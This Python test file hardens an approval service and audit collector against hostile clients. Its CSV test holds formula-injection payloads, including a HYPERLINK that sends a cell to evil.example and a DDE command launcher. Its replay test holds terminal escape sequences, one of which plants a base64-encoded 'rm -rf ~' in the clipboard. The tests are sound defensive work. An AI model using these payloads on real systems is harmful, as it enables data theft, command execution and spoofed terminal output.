"""The reference approval service and audit collector under hostile clients:
credentials are checked before a body is read, CSV cells cannot be
spreadsheet formulas, replay prints no terminal control bytes, and verify
catches index columns of the wrong SQLite type (each used to fail)."""
import json
import socket
import pytest
from service_stack import Approvals, Collector, record

@pytest.mark.parametrize("kind", ["collector", "approvals"])
def test_d3_wrong_token_rejected_before_body_is_read(kind):
    if kind == "collector":
        svc, path, size = Collector(token="audit-tok"), "/v1/records", 64 << 20
    else:
        svc, path, size = Approvals(), "/v1/check", 1 << 20
    try:
        s = socket.create_connection(("127.0.0.1", svc.port), timeout=3)
        s.sendall(b"POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer wrong\r\nContent-Type: application/json\r\n"
                  b"Content-Length: %d\r\n\r\n" % (path.encode(), size))
        try:
            resp = s.recv(100)
        except socket.timeout:
            resp = b""
        s.close()
        assert resp.startswith(b"HTTP/1.1 401"), f"{kind}: no 401 before the {size}-byte body was sent (server waits to buffer it)"
    finally:
        svc.stop()

def test_d4_csv_formula_injection():
    c = Collector(token="t")
    try:
        assert c.post([record(1, request_id='=HYPERLINK("http://evil.example/?"&A1,"open")', identity={"subject": "+cmd|' /C calc'!A0"},
                              reason="@SUM(1)"), record(2, request_id="-1+1")])[0] == 200
        out = c.audit("query", "--format", "csv").stdout.decode()
        cells = [cell.strip('"') for line in out.splitlines()[1:] for cell in line.split(",")]
        bad = [x for x in cells if x[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not bad, f"cells a spreadsheet evaluates as formulas: {bad}"
    finally:
        c.stop()

def test_d5_replay_strips_terminal_escapes():
    c = Collector(token="t")
    try:
        prompt = json.dumps({"messages": [{"role": "user", "content": "hi\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2J\rFAKE LINE"}]})
        r = record(1, request_body={"sha256": "0" * 64, "size": len(prompt), "text": prompt, "truncated": False},
                   response_body={"size": 9, "text": "ok\x1b]0;owned\x07\x1b[1A\x1b[2K[2] ... -> allow 200", "truncated": False})
        assert c.post([r])[0] == 200
        out = c.audit("replay", "--session", "s1").stdout
        bad = [b for b in (b"\x1b", b"\x07", b"\r") if b in out]
        assert not bad, f"replay wrote raw control bytes {bad} to the terminal: {out!r}"
    finally:
        c.stop()

def test_d6_verify_catches_wrong_typed_index_columns():
    import sqlite3
    c = Collector(token="t")
    try:
        assert c.post([record(1), record(2, time_ms=None, identity=None)])[0] == 200
    finally:
        c.stop()
    assert c.audit("query", "--since", "0").stdout.count(b'"request_id"') == 1   # the null-time record is not in time queries
    con = sqlite3.connect(c.db)
    con.execute("UPDATE records SET time_ms = 'zzz', subject = X'6d616c6c6f7279' WHERE seq = 2")
    con.commit(); con.close()
    changed = c.audit("query", "--since", "0").stdout.count(b'"request_id"')
    r = c.audit("verify")
    assert r.returncode == 1, f"verify passed ({r.stdout!r}) though seq 2's indexed columns no longer match its record (query --since now returns {changed} records)"
